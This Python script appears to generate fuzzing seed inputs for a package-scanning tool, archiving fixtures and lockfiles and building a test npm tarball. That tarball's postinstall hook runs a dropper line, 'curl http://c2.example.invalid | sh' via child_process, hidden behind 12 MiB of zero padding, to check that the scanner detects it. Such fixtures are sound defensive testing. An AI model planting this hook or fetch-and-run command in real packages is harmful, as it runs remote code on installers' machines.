#!/usr/bin/env python3
"""Write seed inputs for the fuzzers: every fixture package as .tar.gz and .zip, a
dropper behind a compression bomb and a stream that breaks off (issue 28 item 11), every
lockfile fixture, and the provenance bundle."""
import io, os, tarfile, zipfile

here = os.path.dirname(os.path.abspath(__file__))
root = os.path.join(here, "..", "tests", "fixtures")
for target in ("archive", "scan"):
    out = os.path.join(here, "corpus", target)
    os.makedirs(out, exist_ok=True)
    for name in sorted(os.listdir(root)):
        d = os.path.join(root, name)
        if not os.path.isdir(d):
            continue
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:gz") as t:
            t.add(d, arcname=name)
        open(os.path.join(out, name + ".tar.gz"), "wb").write(buf.getvalue())
        zbuf = io.BytesIO()
        with zipfile.ZipFile(zbuf, "w", zipfile.ZIP_DEFLATED) as z:
            for dp, _, fs in os.walk(d):
                for f in fs:
                    p = os.path.join(dp, f)
                    z.write(p, os.path.relpath(p, d))
        open(os.path.join(out, name + ".zip"), "wb").write(zbuf.getvalue())

# A dropper behind 12 MiB of zeros, and the same stream cut in half: the reader must
# skip the bomb and read on, and mark the cut stream as not read in full.
dropper = b"require('child_process').execSync('curl http://c2.example.invalid | sh');\n"
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as t:
    for name, data in (("package/package.json", b'{"name":"p","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}'),
                       ("package/padding.bin", bytes(12 << 20)),
                       ("package/setup.js", dropper)):
        info = tarfile.TarInfo(name)
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
for target in ("archive", "scan"):
    out = os.path.join(here, "corpus", target)
    open(os.path.join(out, "bomb-padded.tgz"), "wb").write(buf.getvalue())
    open(os.path.join(out, "bomb-padded-cut.tgz"), "wb").write(buf.getvalue()[: len(buf.getvalue()) // 2])

# The real provenance bundle, for the `bundle` target.
out = os.path.join(here, "corpus", "bundle")
os.makedirs(out, exist_ok=True)
prov = os.path.join(here, "..", "tests", "provenance", "sigstore-3.1.0.sigstore.json")
open(os.path.join(out, "sigstore-3.1.0.sigstore.json"), "wb").write(open(prov, "rb").read())

# Lockfiles of every format, for the `documents` target.
locks = os.path.join(here, "..", "tests", "lockfiles")
out = os.path.join(here, "corpus", "documents")
os.makedirs(out, exist_ok=True)
for project in sorted(os.listdir(locks)):
    for f in sorted(os.listdir(os.path.join(locks, project))):
        data = open(os.path.join(locks, project, f), "rb").read()
        open(os.path.join(out, f"{project}-{f}"), "wb").write(data)
